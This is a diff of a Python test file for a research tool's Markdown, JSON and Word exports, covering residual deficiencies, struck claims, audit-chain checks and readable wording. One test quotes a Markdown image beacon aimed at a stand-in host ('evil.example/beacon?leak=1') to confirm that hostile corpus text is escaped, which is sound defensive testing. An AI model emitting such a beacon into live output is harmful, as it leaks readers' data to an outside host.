@@ -1,16 +1,23 @@
-"""Exports: Markdown, JSON and DOCX carry the answer, residuals with reasons, cycles, termination and audit."""
+"""Exports: Markdown, JSON and DOCX carry the answer, residuals with reasons, struck claims, cycles, termination and
+audit; Markdown and Word read as a person expects (words for codes, real tables and lists, no stray escapes)."""
 
 from __future__ import annotations
 
 import io
 import json
+import re
 from datetime import date
+from typing import Any
 
 import pytest
 from docx import Document
 
 from core.config import Settings
+from core.domain.answer import Answer, AnswerSection, Claim, Gap, Quote, claim_id, render_markdown, strike
 from core.domain.audit import annotation_acts, sealed_acts, verify_chain
+from core.domain.documents import DocStatus
+from core.domain.outcome import SessionStatus
+from core.domain.plan import Aspect, PlanItem, PlannedJurisdiction, ResearchPlan
 from core.domain.records import (
     Citation,
     DecisionRecord,
@@ -20,7 +27,9 @@ from core.domain.records import (
     ResolutionStatus,
     Severity,
 )
-from core.export import NO_RESIDUALS, RESIDUAL_HEADING, render
+from core.domain.safe_markdown import md_file_escape
+from core.domain.stop_reasons import REASON_CODES
+from core.export import NO_RESIDUALS, NOTHING_FOUND, RESIDUAL_HEADING, render
 from core.service import RunResult
 from tests.inert import HOSTILE, live_markup, unescape
 
@@ -131,19 +140,19 @@ def test_markdown_has_answer_citations_residuals_cycles_termination_and_audit() 
     md = unescape(_export(_result(), "md").decode())
     assert "The reporting threshold is EUR 10,000 [eu-amld6]." in md
     assert "### EU" in md  # answer headings sit below the export's own sections
-    assert "| eu-amld6 | EU AMLD 6 | EU | Directive 2018/1673 | in_force | in_force | 2021-06-03 |" in md
+    assert "| eu-amld6 | EU AMLD 6 | EU | Directive 2018/1673 | in force | in force | 2021-06-03 |" in md
     assert "| uk-mlr-2017 | UK MLR 2017 | UK |  | amended | repealed | unknown |" in md
     assert md.index("## Answer") < md.index(f"## {RESIDUAL_HEADING}") < md.index("## Citations")
     assert "dismissed by the analyst (out of scope for this client)" in md
     assert "unresolvable after 2 attempts" in md
     assert "still open when the loop stopped" in md
-    assert "addressed but not verifiable" in md
+    assert "waiting for the analyst who added it to confirm it is resolved" in md
     assert RESOLVED.id not in md.split(f"## {RESIDUAL_HEADING}")[1].split("## Citations")[0]
     residual_rows = md.split(f"## {RESIDUAL_HEADING}")[1].split("## Citations")[0]
     assert residual_rows.index("critical") < residual_rows.index("| low |")
     assert "| Cycle | Score | Found | Resolved | Queries issued | Decisions |" in md
     assert f"| 1 | 0.88 | 1 ({OPEN.id}) | 1 ({RESOLVED.id}) | none | none |" in md
-    assert f"{RESOLVED.id}: approve by alice" in md
+    assert f"{RESOLVED.id}: approved by alice" in md
     assert "The maximum number of correction cycles was reached." in md
     assert "Audit chain check: verified. 2 cycle records verified" in md
     assert "PROVISIONAL" not in md
@@ -225,7 +234,7 @@ def test_hostile_corpus_text_is_inert_in_the_markdown_export() -> None:
     ).decode()
     assert live_markup(md) == []
     assert unescape(md).count("![x](http://evil.example/beacon?leak=1)") == 4
-    assert "### EU" in md and "\n## Owners above 25% !\\[x\\]" in md  # headings stay headings, escaped
+    assert "### EU" in md and "\n### Owners above 25% ![x\\](http" in md  # headings stay headings, escaped
 
 
 def test_docx_tolerates_control_characters() -> None:
@@ -246,7 +255,8 @@ def test_unfinished_session_is_labelled_provisional(status: str) -> None:
     )
     md = unescape(_export(result, "md").decode())
     top = md.split("## Answer")[0]
-    assert "PROVISIONAL" in top and f"has not finished (status: {status})" in top and "provisional" in top
+    assert "PROVISIONAL" in top and f"has not finished (status: {status.replace('_', ' ')}" in top
+    assert "provisional" in top
     assert "still open: the loop has not finished" in md
     assert "The loop has not finished." in md and "not scored" in md
     assert json.loads(_export(result, "json"))["provisional"] is True
@@ -276,7 +286,7 @@ def test_every_export_lists_the_human_acts_and_the_chain_head() -> None:
     assert (
         f"| bob | annotation | {OPEN.id} | 1 | note: (empty) -> client-specific | immaterial for this client |" in acts
     )
-    assert "accepted_risk: false -> true" in acts
+    assert "accepted risk: false -> true" in acts
     assert "2 cycle records and 2 human acts verified" in md and f"Chain head: {head}" in md
     assert "Verification covers all records: 2 cycle records and 2 human acts in one chain." in md
     data = json.loads(_export(result, "json"))
@@ -354,3 +364,159 @@ def test_records_sealed_before_human_acts_existed_still_verify() -> None:
         "record_hash": "1da63322fb8789a43645d92dbe6096fa6895059c99789203db9f64961be52454",
     }
     assert verify_chain([stored]) == (True, "1 cycle records verified")
+
+
+# ------------------------------------------------------------------------------------- exports for a reader
+PLAN = ResearchPlan(
+    question="Compare owner thresholds in the EU and the US",
+    as_of=date(2024, 5, 1),
+    jurisdictions=(PlannedJurisdiction(code="EU", name="European Union"), PlannedJurisdiction(code="US", name="US")),
+    comparison=True,
+    items=(
+        PlanItem(id="EU:threshold", jurisdiction="EU", aspect=Aspect.threshold, ask="the EU threshold", query="q"),
+        PlanItem(id="US:threshold", jurisdiction="US", aspect=Aspect.threshold, ask="the US threshold", query="q"),
+        PlanItem(id="US:scope", jurisdiction="US", aspect=Aspect.scope, ask="who the US rule covers", query="q"),
+    ),
+)
+EU_CLAIM = Claim(
+    text="Owners above 25% must be identified.",
+    plan_item_ids=("EU:threshold",),
+    citations=(Quote(doc_id="eu-amld6", chunk_id="eu-amld6#0", quote="Owners above 25%"),),
+)
+US_CLAIM = Claim(
+    text="Owners at 0.46 of the shares, reported by 19:44:33.",
+    plan_item_ids=("US:threshold",),
+    citations=(Quote(doc_id="uk-mlr-2017", chunk_id="uk-mlr-2017#1", quote="Owners"),),
+)
+US_SCOPE = Claim(text="The rule covers money service businesses.", plan_item_ids=("US:scope",))
+TYPED = Answer(
+    sections=(
+        AnswerSection(jurisdiction="EU", claims=(EU_CLAIM,)),
+        AnswerSection(jurisdiction="US", claims=(US_CLAIM, US_SCOPE)),
+    ),
+    gaps=(Gap(plan_item_id="US:date", text="The corpus holds no source on the US deadline."),),
+)
+UNCORRECTABLE = _deficiency(
+    "contradiction:eu",
+    ResolutionStatus.unresolvable,
+    deficiency_type=DeficiencyType.contradictory_sources,
+    severity=Severity.medium,
+)
+CODES = (
+    {t.value for t in DeficiencyType}
+    | {s.value for s in DocStatus}
+    | {s.value for s in SessionStatus}
+    | set(REASON_CODES)
+    | {"review_edit", "accepted_risk"}
+)
+INTERNAL_CODES = {c for c in CODES if "_" in c}
+"""The codes a reader would stumble over (one-word codes such as `open` read as words)."""
+
+
+def _reader_result(**kw: object) -> RunResult:
+    base: dict[str, object] = {
+        "plan": PLAN,
+        "answer": TYPED,
+        "current_answer": render_markdown(TYPED, PLAN),
+        "termination_reason": "only_unresolvable_remaining",
+        "residual_deficiencies": [DISMISSED, UNRESOLVABLE, ANALYST, UNCORRECTABLE],
+        "identified_deficiencies": [DISMISSED, UNRESOLVABLE, ANALYST, UNCORRECTABLE, RESOLVED],
+    }
+    return _result(**{**base, **kw})
+
+
+def _docx_document(data: bytes) -> Any:
+    return Document(io.BytesIO(data))
+
+
+def test_markdown_and_word_say_every_code_in_words_and_json_keeps_the_codes() -> None:
+    result = _reader_result()
+    md = _export(result, "md").decode()
+    text, tables = _docx_text(_export(result, "docx"))
+    cells = " ".join(c for t in tables for row in t for c in row)
+    for rendered in (md, text + cells):
+        assert not [c for c in INTERNAL_CODES if c in rendered]
+    assert "only dismissed or unresolvable deficiencies remain" not in md.split("## Termination")[1]  # a sentence
+    assert "Only dismissed or unresolvable deficiencies remain" in md
+    assert "contradictory sources" in md and "in force" in md
+    data = json.loads(_export(result, "json"))
+    assert data["termination_reason"] == "only_unresolvable_remaining"
+    assert data["residual_deficiencies"][0]["deficiency_type"] in {t.value for t in DeficiencyType}
+    assert data["outcome"]["counts"]["residual"] == 4 and data["exported_by"] == "local"
+
+
+def test_markdown_escapes_only_what_would_render_live() -> None:
+    md = _export(_reader_result(), "md").decode()
+    assert not re.findall(r"\\[.:,;()'\"%/-]", md)  # no backslash before ordinary punctuation
+    assert "0.46 of the shares, reported by 19:44:33." in md
+    assert "| Quality score | 0.88 |" in md
+    assert "- Owners above 25% must be identified. [eu-amld6]" in md  # a list item, the citation mark as written
+    assert "- The corpus holds no source on the US deadline." in md
+    assert live_markup(md) == []
+
+
+def test_the_markdown_of_hostile_text_stays_inert_but_readable() -> None:
+    escaped = md_file_escape(HOSTILE)
+    assert live_markup(escaped) == [] and "Owners above 25% ![x\\](http" in escaped
+    for ordinary in ("0.46", "Sources: a; b.", "19:44:33", "a < 10", "C:\\path", "snake_case", "-5%", "2.5 (a)"):
+        assert md_file_escape(ordinary) == ordinary
+    for block in ("# heading", "> quote", "- item", "1. item", "===", "---"):
+        assert md_file_escape(block) != block and unescape(md_file_escape(block)) == block
+
+
+def test_word_has_real_tables_and_lists_from_the_typed_answer() -> None:
+    doc = _docx_document(_export(_reader_result(), "docx"))
+    comparison = next(t for t in doc.tables if t.rows[0].cells[0].text == "jurisdiction")
+    assert [c.text for c in comparison.rows[0].cells] == [
+        "jurisdiction",
+        "scope and applicability",
+        "thresholds and figures",
+    ]
+    assert [c.text for c in comparison.rows[2].cells] == [
+        "US",
+        "The rule covers money service businesses.",
+        "Owners at 0.46 of the shares, reported by 19:44:33.",
+    ]
+    bullets = [p.text for p in doc.paragraphs if p.style.name == "List Bullet"]
+    assert "Owners above 25% must be identified. [eu-amld6]" in bullets
+    assert "The corpus holds no source on the US deadline." in bullets
+    headings = [p.text for p in doc.paragraphs if p.style.name.startswith("Heading")]
+    assert "EU (European Union)" in headings and "Not answered by the corpus" in headings
+    for p in doc.paragraphs:  # no Markdown marker reaches Word
+        assert not re.match(r"\s*(#|- |\* |\|)", p.text) and "**" not in p.text and "\\" not in p.text
+
+
+def test_the_empty_and_zero_attempt_cases_are_worded() -> None:
+    md = unescape(_export(_reader_result(), "md").decode())
+    assert "unresolvable: the critic found that no correction retrieval can fix it" in md
+    assert "after 0 attempts" not in md
+    nothing = _result(residual_deficiencies=[], identified_deficiencies=[], termination_reason="no_open_deficiencies")
+    md = unescape(_export(nothing, "md").decode())
+    assert f"## {RESIDUAL_HEADING}\n\n{NOTHING_FOUND}" in md and NO_RESIDUALS not in md
+    assert "No problem was found: the critics raised no deficiency." in md
+    text, _ = _docx_text(_export(nothing, "docx"))
+    assert NOTHING_FOUND in text
+
+
+def test_the_export_says_who_asked_and_who_exported() -> None:
+    result = _reader_result(started_by="ana")
+    ok, message = verify_chain(result.audit_records)
+    md = render(result, "md", audit_ok=ok, audit_message=message, exported_by="ana").decode()
+    assert "| Started by | ana |" in md and "| Exported by | ana |" in md and "| User |" not in md
+    assert "local" not in md.split("## Answer")[0]
+
+
+def test_a_struck_claim_is_listed_in_every_export() -> None:
+    answer = strike(TYPED, PLAN, claim_id("US", US_SCOPE), "out of scope", "ana", "2024-05-01T10:02:00+00:00")
+    result = _reader_result(answer=answer, current_answer=render_markdown(answer, PLAN))
+    md = unescape(_export(result, "md").decode())
+    struck = md.split("## Struck claims")[1].split("## Citations")[0]
+    assert (
+        f"| {claim_id('US', US_SCOPE)} | US | The rule covers money service businesses. | out of scope | ana |"
+        in struck
+    )
+    assert "- The rule covers money service businesses." not in md
+    assert "The corpus holds no source on who the US rule covers." in md  # its plan item is a gap now
+    _, tables = _docx_text(_export(result, "docx"))
+    assert any(row[2:3] == ["The rule covers money service businesses."] for t in tables for row in t)
+    assert json.loads(_export(result, "json"))["answer"]["struck"][0]["reason"] == "out of scope"
